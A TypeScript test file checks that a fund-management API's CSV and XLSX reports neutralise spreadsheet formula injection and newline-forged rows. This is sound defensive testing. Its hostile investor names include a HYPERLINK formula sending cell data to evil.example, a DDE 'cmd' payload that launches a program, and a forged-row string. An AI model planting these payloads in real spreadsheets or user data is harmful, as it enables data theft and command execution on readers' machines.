import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { testApi, type TestApi } from '../helpers/api';
import { TEST_DIALECT } from '../helpers/database';
import { seedReference } from '../helpers/fund-scenario';
import { getBytes, readWorkbook } from '../helpers/report-client';

/** Issue 12 item 2: names and memos that a spreadsheet would run as formulas, or that forge rows. */
const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3+cmd',
  '\t=1+1',
  '\r=1+1',
  'Forged\nPHX,EVIL,evil,social,1.00',
  'comma, and "quotes"',
];

describe(`CSV and spreadsheet injection (${TEST_DIALECT})`, () => {
  let api: TestApi;
  before(async () => {
    api = await testApi();
    await seedReference(api);
    const m = api.as('fund_manager');
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      expect((await m.post('/investors', { code: `EVIL-${i}`, name, category: 'private', capitalClass: 'social' })).status).to.equal(201);
      expect((await m.post('/funds/PHX/commitments', { investor: `EVIL-${i}`, amount: `${i + 1}.00`, date: '2019-01-02' })).status).to.equal(201);
    }
    const fee = await m.post('/funds/PHX/capital-calls', { amount: '36.00', date: '2019-01-03', dueDate: '2019-02-01' });
    expect(fee.status, JSON.stringify(fee.body)).to.equal(201);
    for (const a of fee.body.allocations) await m.post(`/capital-calls/${fee.body.id}/payments`, { investor: a.investor, amount: a.amount, date: '2019-01-04' });
    expect((await m.post('/funds/PHX/expenses', { amount: '1.00', date: '2019-01-05', kind: 'other', memo: '=1+1' })).status).to.equal(201);
  });
  after(() => api.dispose());

  const csv = async (path: string): Promise<string[][]> => {
    const res = await getBytes(api, path);
    expect(res.status).to.equal(200);
    return parse(res.body.toString('utf8'), { bom: true, relax_column_count: true });
  };

  it('capital-accounts.csv quotes a name with a line break (no forged row) and neutralises formula-leading names', async () => {
    const records = await csv('/reports/capital-accounts?format=csv&asOf=2019-12-31');
    const nameCol = records[0].indexOf('出资人名称 investorName');
    const rows = records.filter((r) => r[1]?.startsWith('EVIL-'));
    expect(rows).to.have.length(HOSTILE_NAMES.length);
    expect(records.some((r) => r[1] === 'EVIL')).to.equal(false);
    const expected = HOSTILE_NAMES.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n));
    expect(rows.map((r) => r[nameCol])).to.have.members(expected);
  });

  it('the journal CSV neutralises a formula memo and keeps negative amounts as plain numbers', async () => {
    const journal = await csv('/reports/journal?format=csv&asOf=2019-12-31');
    const memoCol = journal[0].indexOf('摘要 memo');
    const memos = journal.slice(1).map((r) => r[memoCol]);
    expect(memos.some((m) => m?.includes('=1+1'))).to.equal(true);
    for (const memo of memos) expect(memo ?? '').to.not.match(/^[=+\-@\t\r]/);
    const trial = await csv('/reports/trial-balance?format=csv&asOf=2019-12-31');
    const balances = trial.slice(1).map((r) => r[4]).filter((b) => b?.startsWith('-'));
    expect(balances.length).to.be.greaterThan(0);
    for (const b of balances) expect(b).to.match(/^-\d+\.\d{2}$/);
  });

  it('the XLSX neutralises text cells and keeps money cells as numbers', async () => {
    const res = await getBytes(api, '/reports/capital-accounts?format=xlsx&asOf=2019-12-31');
    const sheet = await readWorkbook(res.body);
    const header = (sheet.getRow(2).values as unknown[]).slice(1);
    const nameCol = header.indexOf('出资人名称 investorName') + 1;
    const committedCol = header.indexOf('认缴 committed') + 1;
    const names: string[] = [];
    sheet.eachRow((row, n) => {
      if (n <= 2 || !String(row.getCell(2).value).startsWith('EVIL-')) return;
      names.push(String(row.getCell(nameCol).value));
      expect(row.getCell(committedCol).value).to.be.a('number');
    });
    expect(names).to.have.length(HOSTILE_NAMES.length);
    for (const name of names) expect(name).to.not.match(/^[=+\-@\t\r]/);
    const trial = await readWorkbook((await getBytes(api, '/reports/trial-balance?format=xlsx&asOf=2019-12-31')).body);
    let negatives = 0;
    trial.eachRow((row, n) => {
      const balance = row.getCell(5).value;
      if (n > 2 && typeof balance === 'number' && balance < 0) negatives += 1;
    });
    expect(negatives).to.be.greaterThan(0);
  });
});
